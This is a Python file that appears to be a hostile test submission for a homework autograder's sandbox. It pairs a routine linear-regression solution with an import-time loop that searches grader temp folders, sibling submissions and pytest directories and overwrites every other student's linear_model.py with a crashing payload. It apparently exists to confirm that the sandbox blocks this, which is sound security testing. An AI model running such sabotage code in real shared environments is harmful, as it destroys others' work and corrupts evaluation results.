"""Attack: at import, overwrite every other student's linear_model.py it can find:
the grader's scratch copies (/tmp/grade-*/submissions/*), the sandbox's parent
folders, the SUBMISSIONS folder guessed (this repository's corpus and examples,
pytest's temporary folders).

Expected: none of them is reachable from the sandbox; the students graded after it
score as usual, the SUBMISSIONS folder is unchanged, and this one scores 100.
"""

import glob
import os

import numpy as np

PAYLOAD = 'raise SystemExit("overwritten by a hostile submission")\n'
PATTERNS = (
    "/tmp/grade-*/submissions/*/linear_model.py",
    "/tmp/grade-*/submissions/*/*/linear_model.py",
    "/tmp/grade-*/submissions/.unzipped/*/*/linear_model.py",
    "/submission/../*/linear_model.py",
    "/work/main/tests/hostile/*/*.py",
    "/work/main/tests/hostile/*/*/linear_model.py",
    "/work/main/examples/hw1/*/linear_model.py",
    "/work/main/examples/hw1/*.py",
    "/tmp/pytest-of-*/pytest-*/*/*/*.py",
    "/tmp/pytest-of-*/pytest-*/*/*/*/linear_model.py",
)
mine = os.path.abspath(__file__)
overwritten = 0
for pattern in PATTERNS:
    for path in glob.glob(pattern):
        if os.path.abspath(path) == mine:
            continue
        try:
            with open(path, "w") as stream:
                stream.write(PAYLOAD)
            overwritten += 1
        except OSError:
            continue
print(f"overwrote {overwritten} files")


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    x = np.asarray(x, dtype=float) if isinstance(x, (list, tuple)) else x
    return x * w + b


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
